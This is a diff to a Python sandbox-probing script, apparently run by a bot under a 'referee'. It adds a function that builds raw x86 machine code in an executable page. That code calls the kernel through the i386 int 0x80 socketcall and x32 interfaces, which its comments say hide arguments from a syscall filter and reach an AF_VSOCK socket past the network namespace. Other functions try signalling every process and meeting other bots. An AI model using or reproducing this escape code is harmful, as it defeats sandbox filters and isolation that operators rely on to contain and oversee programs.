@@ -32,6 +32,7 @@ import errno
 import fcntl
 import os
 import resource
+import signal
 import socket
 import subprocess
 import sys
@@ -440,6 +441,53 @@ def try_page_cache() -> None:
         os.close(fd)
 
 
+#: Machine code run in a page below 4 GiB: socketcall(SYS_SOCKET, {AF_VSOCK, SOCK_STREAM,
+#: 0}) through the i386 interface (push rbx; mov eax, 102; mov ebx, 1; mov ecx, ARGS;
+#: int 0x80; pop rbx; ret), and getpid through the x32 one (mov eax, 0x40000000 + 39;
+#: syscall; ret). The arguments lie at offset 64 of the page.
+I386_SOCKETCALL = b"\x53\xb8\x66\x00\x00\x00\xbb\x01\x00\x00\x00\xb9{args}\xcd\x80\x5b\xc3"
+X32_GETPID = b"\xb8\x27\x00\x00\x40\x0f\x05\xc3"
+
+
+def _in_child(code: bytes) -> str:
+    """Run ``code`` (returning an int) in a forked child: what it returned, or how the
+    child ended."""
+    LIBC.mmap.restype = ctypes.c_void_p
+    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int]
+    LIBC.mmap.argtypes += [ctypes.c_int, ctypes.c_long]
+    # PROT_READ|WRITE|EXEC; MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT: i386 pointers are 32 bits.
+    page = LIBC.mmap(None, 4096, 7, 0x02 | 0x20 | 0x40, -1, 0)
+    args = (page + 64).to_bytes(4, "little")
+    ctypes.memmove(page, code.replace(b"{args}", args), len(code.replace(b"{args}", args)))
+    ctypes.memmove(page + 64, b"".join(n.to_bytes(4, "little") for n in (40, 1, 0)), 12)
+    reader, writer = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(reader)
+        result = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
+        os.write(writer, str(result).encode())
+        os._exit(0)
+    os.close(writer)
+    with os.fdopen(reader, "rb") as pipe:
+        said = pipe.read().decode()
+    _, status = os.waitpid(pid, 0)
+    if os.WIFSIGNALED(status):
+        return f"ended by {signal.Signals(os.WTERMSIG(status)).name}"
+    return f"answered {said}"
+
+
+def try_foreign_abi() -> None:
+    """System calls through the 32-bit doors of an x86-64 kernel: ``int 0x80`` (i386),
+    whose ``socketcall`` hides its arguments from a filter (an AF_VSOCK socket, past the
+    network namespace), and x32 numbers. Answered at all, a door is open."""
+    if os.uname().machine != "x86_64":
+        return
+    said = _in_child(I386_SOCKETCALL)
+    route("i386_socketcall", said.startswith("answered"), said)
+    said = _in_child(X32_GETPID)
+    route("x32_call", said.startswith("answered"), said)
+
+
 def try_signals() -> None:
     """Signal 0 to every process it may signal (kill -1): any other bot, the referee..."""
     try:
@@ -650,6 +698,7 @@ def main() -> None:
     for attempt in (try_keyring, try_tracing, try_kernel_interfaces, try_shared_files, try_uevents):
         attempt()
     try_page_cache()
+    try_foreign_abi()
     try_network()
     meet_others()
     try_memory()
